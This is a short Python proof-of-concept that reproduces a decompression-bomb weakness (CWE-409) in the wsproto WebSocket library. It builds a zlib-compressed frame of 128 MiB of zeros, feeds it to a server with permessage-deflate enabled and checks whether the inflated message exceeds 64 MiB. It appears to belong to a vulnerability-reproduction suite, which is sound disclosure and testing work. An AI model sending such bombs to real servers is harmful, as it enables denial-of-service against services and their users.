"""wsproto inflates 128 KiB to 128 MiB in one step, so its user cannot stop at a limit (CWE-409)."""

import zlib

import wsproto
from reproduce import HANDSHAKE, verdict
from wsproto.events import AcceptConnection, Message
from wsproto.extensions import PerMessageDeflate

STACK = "asgi-uvicorn-h11"

server = wsproto.WSConnection(wsproto.ConnectionType.SERVER)
offer = b"Sec-WebSocket-Extensions: permessage-deflate\r\n\r\n"
server.receive_data(HANDSHAKE.removesuffix(b"\r\n") + offer)
list(server.events())
server.send(AcceptConnection(extensions=[PerMessageDeflate()]))
deflate = zlib.compressobj(level=9, wbits=-15)
bomb = deflate.compress(bytes(128 * 2**20)) + deflate.flush(zlib.Z_SYNC_FLUSH)
server.receive_data(b"\xc1\xff" + len(bomb).to_bytes(8) + bytes(4) + bomb)
sizes = [len(event.data) for event in server.events() if isinstance(event, Message)]
seen = f"{len(bomb)} bytes became messages of {sizes}"
verdict("wsproto", shows=max(sizes) > 64 * 2**20, seen=seen)
